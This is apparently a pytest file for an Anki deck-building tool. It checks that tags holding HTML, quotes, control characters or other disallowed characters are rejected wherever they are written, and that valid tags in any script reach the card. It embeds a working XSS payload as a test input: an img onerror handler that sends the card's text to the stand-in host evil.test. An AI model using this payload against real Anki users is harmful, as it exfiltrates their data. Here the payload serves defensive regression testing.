"""Issue 11, item 1: no script through tags.

Anki puts `{{Tags}}` into the card unescaped, so a tag is HTML on every member's card.
A tag that holds anything but letters, digits, `_ - . / + #` and `::` between levels is
an error where it is written (front matter key, heading, notebook meta cell or metadata,
deck config key), and no deck is written; good tags, in any script, reach the card.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from cli_run import run

from anki_tools import tags

from anki_collection import AnkiProfile

# The tag that ran in Anki desktop and sent the card's text away.
ATTACK = "<img/src='x'/onerror=fetch('http://evil.test/?'+document.body.innerText)>"
# One tag for each kind of character the rule keeps out (whitespace splits tags).
HOSTILE = {
    "the issue's attack": (ATTACK, "'<'"),
    "closing markup": ("a>b", "'>'"),
    "an entity": ("a&lt;b", "'&'"),
    "a double quote": ('say"hi', "'\"'"),
    "a single quote": ("it's", '"\'"'),
    "a backtick": ("back`tick", "'`'"),
    "a control character": ("bell\x07x", "the control character U+0007"),
    "an invisible space": ("zero\u200bwidth", "a zero width space"),
    "a backslash (MathJax)": ("\\(x\\)", "'\\'"),
    "a single colon": ("a:b", "':'"),
}
RULE = "(a tag is letters, digits and _ - . / + #, with :: between levels)"


def write(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


def notebook(cells: list[str], metadata: dict | None = None) -> str:
    """A notebook of markdown cells, as Jupyter saves it."""
    made = [
        {"cell_type": "markdown", "id": f"c{n}", "metadata": {}, "source": text}
        for n, text in enumerate(cells)
    ]
    return json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata or {}, "cells": made}
    )


def yaml_string(text: str) -> str:
    return json.dumps(text)  # JSON strings are YAML strings, control characters escaped


def places(tag: str) -> dict[str, tuple[dict[str, str], list[str], str]]:
    """Every place a tag enters: (files, command, where its error must point)."""
    quoted = yaml_string(tag)
    attribute = f"tags='{tag}'" if '"' in tag else f'tags="{tag}"'
    return {
        "front matter list": (
            {"notes/a.md": f"---\ndeck: d\ntags: [ok, {quoted}]\n---\n## Q\n\nA\n"},
            ["build", "notes", "-o", "out.apkg"],
            "notes/a.md:3",
        ),
        "front matter string": (
            {"notes/a.md": f"---\ntags: {quoted}\n---\n## Q\n\nA\n"},
            ["build", "notes", "-o", "out.apkg"],
            "notes/a.md:2",
        ),
        "heading attribute": (
            {"notes/a.md": f"# Title\n\n## Fine\n\nA\n\n## Q {{{attribute}}}\n\nA\n"},
            ["build", "notes", "-o", "out.apkg"],
            "notes/a.md:7",
        ),
        "notebook TAGS line": (
            {"notes/n.ipynb": notebook(["DECK = d", f"TAGS = ok {tag}", "Q\n\n-\n\nA"])},
            ["build", "notes", "-o", "out.apkg"],
            "notes/n.ipynb:cell 2",
        ),
        "notebook metadata": (
            {"notes/n.ipynb": notebook(["Q\n\n-\n\nA"], {"anki": {"tags": ["ok", tag]}})},
            ["build", "notes", "-o", "out.apkg"],
            "notes/n.ipynb",
        ),
        "deck config": (
            {
                "notes/a.md": "## Q\n\nA\n",
                "decks/d.yaml": f"name: D\nsources: notes\n\ntags: [ok, {quoted}]\n",
            },
            ["build"],
            "decks/d.yaml:4",
        ),
    }


PLACES = list(places("x"))


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("kind", list(HOSTILE))
def test_a_hostile_tag_is_an_error_where_it_is_written(in_tmp: Path, place: str, kind: str) -> None:
    tag, named = HOSTILE[kind]
    files, command, where = places(tag)[place]
    write(in_tmp, files)
    result = run(*command)
    assert result.exit_code == 1, result.output
    lines = [line for line in result.stderr.splitlines() if "cannot hold" in line]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"{where}: tag '"), lines[0]
    assert f"cannot hold {named}" in lines[0] and RULE in lines[0]
    assert not list(in_tmp.rglob("*.apkg")), "a deck was written"


def test_the_message_shows_a_control_character_escaped(in_tmp: Path) -> None:
    """The builder's terminal gets the tag, not what its bytes would do there."""
    files, command, _ = places("a\x1b[2Jb")["front matter list"]
    write(in_tmp, files)
    result = run(*command)
    assert "\x1b" not in result.stderr
    assert "tag 'a\\x1b[2Jb' cannot hold the control character U+001B" in result.stderr


@pytest.mark.parametrize(
    ("tag", "message"),
    [
        ("a::", "has an empty level"),
        ("::a", "has an empty level"),
        ("a::::b", "has an empty level"),
        ("a:::b", "cannot hold ':'"),
        ("😀", "cannot hold '😀'"),
        ("x" * 101, "is 101 characters long; the most is 100"),
    ],
)
def test_what_else_a_tag_cannot_be(tag: str, message: str) -> None:
    """Anki would turn an empty level into `blank`; the allow-list keeps out symbols."""
    why = tags.problem(tag)
    assert why is not None and message in why


@pytest.mark.parametrize(
    "tag",
    ["python", "lang::basics", "c++", "c#", "v1.2/rc-3", "日本語", "हिंदी", "Ελληνικά", "x" * 100],
)
def test_plain_tags_are_fine(tag: str) -> None:
    assert tags.problem(tag) is None


def test_keep_going_builds_no_card_that_carries_a_hostile_tag(
    in_tmp: Path, anki: AnkiProfile
) -> None:
    """The bad tag is left off the cards of its file; a card whose heading has one is
    left out. What Anki shows holds neither."""
    write(
        in_tmp,
        {
            "notes/a.md": (
                f"---\ntags: [kept, {yaml_string(ATTACK)}]\n---\n"
                f'## First\n\nA\n\n## Second {{tags="{ATTACK}"}}\n\nB\n'
            )
        },
    )
    result = run("build", "notes", "-o", "out.apkg", "--keep-going")
    assert result.exit_code == 1
    assert anki.import_deck(in_tmp / "out.apkg") == (1, 0, 0)
    (card,) = anki.cards()
    assert card.tags == ["kept"]
    assert "First" in card.question
    assert "onerror" not in card.answer and "<img" not in card.answer
    assert '<span class="at-tags">kept</span>' in card.answer


def test_good_tags_from_every_place_show_on_the_card(in_tmp: Path, anki: AnkiProfile) -> None:
    """Letters of any script, digits, `_ - . / + #` and levels reach Anki as written and
    show in the card's footer."""
    write(
        in_tmp,
        {
            "notes/a.md": (
                "---\ntags: [lang::c++, c#]\n---\n"
                '## Markdown card {tags="日本語::文法 v1.2/rc_3"}\n\nA\n'
            ),
            "notes/n.ipynb": notebook(["TAGS = हिंदी", "Notebook card\n\n-\n\nB"]),
            "decks/d.yaml": "name: D\nsources: notes\ntags: shared-deck\n",
        },
    )
    result = run("build")
    assert result.exit_code == 0, result.output
    assert anki.import_deck(in_tmp / "decks" / "d.apkg") == (2, 0, 0)
    by_tags = {tuple(sorted(card.tags)): card for card in anki.cards()}
    markdown = by_tags[("c#", "lang::c++", "shared-deck", "v1.2/rc_3", "日本語::文法")]
    assert (
        '<span class="at-tags">c# lang::c++ shared-deck v1.2/rc_3 日本語::文法</span>'
        in markdown.answer
    )
    note = by_tags[("shared-deck", "हिंदी")]
    assert '<span class="at-tags">shared-deck हिंदी</span>' in note.answer
